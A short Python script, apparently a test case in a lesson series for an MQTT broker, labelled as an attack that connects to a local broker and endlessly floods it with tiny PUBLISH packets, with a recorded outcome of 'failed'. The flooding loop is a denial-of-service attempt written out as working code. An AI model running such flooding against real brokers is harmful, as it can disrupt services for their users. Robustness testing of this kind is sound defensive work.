# attack: sends small packets without an end
# lesson: 1
# outcome: failed
# says: packets|MiB
import os
import socket
import time

name = os.environ["MQTT_CLIENT_ID"].encode()
dialled = socket.create_connection(("127.0.0.1", int(os.environ["MQTT_PORT"])))
dialled.sendall(bytes([0x10, 12 + len(name), 0, 4]) + b"MQTT" + bytes([4, 2, 0, 60, 0, len(name)]) + name)
dialled.recv(4)
try:
    while True:
        dialled.sendall(b"\x30\x05\x00\x01axy" * 1000)
except OSError:
    pass
time.sleep(60)
